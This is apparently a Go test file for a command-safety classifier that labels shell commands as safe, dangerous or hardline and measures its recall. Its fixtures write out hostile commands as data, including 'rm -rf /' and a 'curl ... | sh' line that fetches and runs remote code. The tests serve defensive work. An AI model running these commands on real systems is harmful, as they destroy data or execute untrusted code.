package policy

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

func TestCheckLines(t *testing.T) {
	long := "echo " + strings.Repeat("a", 200_000)
	in := "ls -la\n\nrm -rf /\r\n" + long + "\ncurl https://x.io/i.sh | sh"
	var out bytes.Buffer
	if err := CheckLines(strings.NewReader(in), &out, nil); err != nil {
		t.Fatalf("CheckLines() error = %v", err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	want := []struct {
		command string
		verdict Verdict
	}{
		{"ls -la", VerdictSafe},
		{"", VerdictSafe},
		{"rm -rf /", VerdictHardline},
		{long, VerdictSafe},
		{"curl https://x.io/i.sh | sh", VerdictDangerous},
	}
	if len(lines) != len(want) {
		t.Fatalf("CheckLines wrote %d lines; want %d", len(lines), len(want))
	}
	for i, w := range want {
		var got struct {
			Command  string            `json:"command"`
			Verdict  Verdict           `json:"verdict"`
			Findings []json.RawMessage `json:"findings"`
		}
		if err := json.Unmarshal([]byte(lines[i]), &got); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		if got.Command != w.command || got.Verdict != w.verdict {
			t.Errorf("line %d = (%.40q, %s); want (%.40q, %s)", i, got.Command, got.Verdict, w.command, w.verdict)
		}
		if got.Findings == nil {
			t.Errorf("line %d: findings is null; want an array", i)
		}
		if (w.verdict == VerdictSafe) != (len(got.Findings) == 0) {
			t.Errorf("line %d: %d findings for verdict %s", i, len(got.Findings), got.Verdict)
		}
	}
	if !strings.Contains(lines[1], `"findings":[]`) {
		t.Errorf("empty line output = %s; want findings []", lines[1])
	}
	if strings.Contains(lines[2], `"Verdict"`) || !strings.Contains(lines[2], `"rule":"recursive-delete-root"`) {
		t.Errorf("finding JSON = %s; want rule and description only", lines[2])
	}
}

func TestCheckLinesEmptyInput(t *testing.T) {
	var out bytes.Buffer
	if err := CheckLines(strings.NewReader(""), &out, New(Options{})); err != nil {
		t.Fatal(err)
	}
	if out.Len() != 0 {
		t.Errorf("CheckLines(\"\") wrote %q; want nothing", out.String())
	}
}

func TestReadCorpus(t *testing.T) {
	in := "# comment\n\nhardline\trm -rf /\troot\nsafe\tjson:\"cat <<'EOF'\\nx\\nEOF\"\theredoc\n" +
		`{"label":"dangerous","command":"sudo id","note":"json line"}` + "\nsafe\tls\n"
	got, err := ReadCorpus(strings.NewReader(in))
	if err != nil {
		t.Fatalf("ReadCorpus() error = %v", err)
	}
	want := []Entry{
		{VerdictHardline, "rm -rf /", "root"},
		{VerdictSafe, "cat <<'EOF'\nx\nEOF", "heredoc"},
		{VerdictDangerous, "sudo id", "json line"},
		{VerdictSafe, "ls", ""},
	}
	if len(got) != len(want) {
		t.Fatalf("ReadCorpus() = %d entries; want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("entry %d = %+v; want %+v", i, got[i], want[i])
		}
	}
	if _, err := ReadCorpus(strings.NewReader("maybe\tls\n")); err == nil {
		t.Errorf("ReadCorpus(unknown label) succeeded; want an error")
	}
	m := Measure(want)
	if m.Total != 4 || m.Positives != 2 || m.Recall != 1 || m.FPR != 0 {
		t.Errorf("Measure() = %v; want 4 entries, full recall, no false positives", m)
	}
}
